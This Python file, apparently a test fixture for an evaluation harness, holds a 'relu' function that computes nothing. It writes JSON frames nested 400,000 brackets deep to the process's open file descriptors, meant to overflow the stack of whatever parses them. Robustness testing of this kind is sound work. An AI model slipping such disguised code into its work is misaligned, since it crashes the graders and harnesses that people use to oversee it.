"""Writes headers nested so deep that reading one, or telling what it says, overflows the stack.

Expected: no answer
"""

import os
import struct
import sys

import numpy as np

DEPTHS = (400_000, 900, 2_000)


def frame(depth):
    nested = b"[" * depth + b"]" * depth
    failed = b'{"kind": ' + nested + b', "message": ' + nested + b"}"
    rest = b'"lacking": {}, "misfits": {}, "notes": {"forward": [], "backward": []}, "called": ""'
    told = b'{"failed": {"forward": ' + failed + b"}, " + rest + b"}"
    head = b'{"arrays": [], "turn": %d, "answered": ' % turn() + told + b"}"
    return struct.pack("!i", 4 + len(head)) + struct.pack("<I", len(head)) + head


def turn():
    frame = sys._getframe()
    while frame is not None:
        request = frame.f_locals.get("request")
        if type(request) is dict and "turn" in request:
            return request["turn"]
        frame = frame.f_back
    return 0


def relu(x):
    depth = DEPTHS[int(abs(x).sum() * 1000) % len(DEPTHS)]
    for fd in (int(sys.argv[2]), *range(3, 32)):
        try:
            os.write(fd, frame(depth))
        except OSError:
            pass
    return np.zeros_like(x), x


def relu_backward(dout, cache):
    return np.zeros_like(dout)
